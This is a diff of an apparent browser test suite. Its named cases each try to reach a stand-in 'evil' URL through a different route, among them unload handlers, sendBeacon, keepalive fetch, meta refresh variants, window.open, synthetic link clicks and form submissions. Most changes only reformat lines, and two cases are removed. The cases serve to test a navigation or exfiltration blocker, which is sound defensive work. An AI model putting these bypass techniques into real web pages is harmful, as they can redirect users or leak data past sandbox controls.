@@ -49,10 +49,6 @@ export default {
       at.addEventListener("navigate", (e) => e.stopImmediatePropagation(), true);
     location = evil;
   },
-  "in beforeunload": ({ evil, own }) => {
-    addEventListener("beforeunload", () => (location = evil));
-    location = own + "/plain";
-  },
   "a beacon in beforeunload": ({ evil, own }) => {
     addEventListener("beforeunload", () => navigator.sendBeacon(evil, "x"));
     location = own + "/plain";
@@ -63,10 +59,6 @@ export default {
   },
   "a fetch in unload": ({ evil, own }) => {
     addEventListener("unload", () => fetch(evil, { mode: "no-cors", keepalive: true }));
-    location = own + "/plain";
-  },
-  "a new window in pagehide": ({ evil, own }) => {
-    addEventListener("pagehide", () => open(evil));
     location = own + "/plain";
   },
   "a blob: document": ({ blob, script, evil }) => void (location = blob(script(`location = "${evil}"`))),
@@ -96,7 +88,8 @@ export default {
     document.head.insertAdjacentHTML("beforeend", `<meta http-equiv="refresh" content="0; url=${evil}">`),
   "a refresh by properties": ({ add, evil }) => add("meta", { httpEquiv: "refresh", content: `0; url=${evil}` }),
   "a refresh without its url=": ({ add, evil }) => add("meta", { httpEquiv: "refresh", content: `0 ${evil}` }),
-  "a refresh in quotes and spaces": ({ add, evil }) => add("meta", { httpEquiv: "REFRESH", content: ` 0 ;\n URL = '${evil}' x` }),
+  "a refresh in quotes and spaces": ({ add, evil }) =>
+    add("meta", { httpEquiv: "REFRESH", content: ` 0 ;\n URL = '${evil}' x` }),
   "a refresh that changes its mind": async ({ add, evil, own }) => {
     const m = add("meta", { httpEquiv: "refresh", content: `9; url=${own}` });
     m.attributes.content.value = `0; url=${evil}`;
@@ -140,7 +133,8 @@ export default {
   "window.open by call": ({ evil }) => void Window.prototype.open?.call(window, evil) ?? open.call(undefined, evil),
   "a link": ({ add, evil }) => add("a", { href: evil }).click(),
   "a link in a new window": ({ add, evil }) => add("a", { href: evil, target: "_blank" }).click(),
-  "a link in no document": ({ evil }) => Object.assign(document.createElement("a"), { href: evil, target: "_blank" }).click(),
+  "a link in no document": ({ evil }) =>
+    Object.assign(document.createElement("a"), { href: evil, target: "_blank" }).click(),
   "a link by a dispatched click": ({ add, evil }) =>
     void add("a", { href: evil, target: "_blank" }).dispatchEvent(new MouseEvent("click")),
   "a link by a click of another interface": ({ add, evil }) =>
@@ -353,17 +347,20 @@ export default {
     add("a", { href: evil }).click();
   },
   "a form": ({ add, evil }) => add("form", { action: evil }).submit(),
-  "a form that posts in a new window": ({ add, evil }) => add("form", { action: evil, method: "post", target: "_blank" }).submit(),
+  "a form that posts in a new window": ({ add, evil }) =>
+    add("form", { action: evil, method: "post", target: "_blank" }).submit(),
   "a form's requestSubmit": ({ add, evil }) => add("form", { action: evil }).requestSubmit(),
   "a form's button": ({ add, evil }) => add("button", {}, add("form", { action: evil })).click(),
-  "a button's formaction": ({ add, evil, own }) => add("button", { formAction: evil }, add("form", { action: own })).click(),
+  "a button's formaction": ({ add, evil, own }) =>
+    add("button", { formAction: evil }, add("form", { action: own })).click(),
   "a button of elsewhere": ({ add, evil }) => {
     add("form", { action: evil, id: "f" });
     const b = add("button");
     b.setAttribute("form", "f");
     b.click();
   },
-  "an image that submits": ({ add, evil, own }) => add("input", { type: "image", formAction: evil }, add("form", { action: own })).click(),
+  "an image that submits": ({ add, evil, own }) =>
+    add("input", { type: "image", formAction: evil }, add("form", { action: own })).click(),
   "a form with two actions": ({ add, evil, own }) => {
     const f = add("form");
     f.setAttributeNS("urn:x", "action", own);
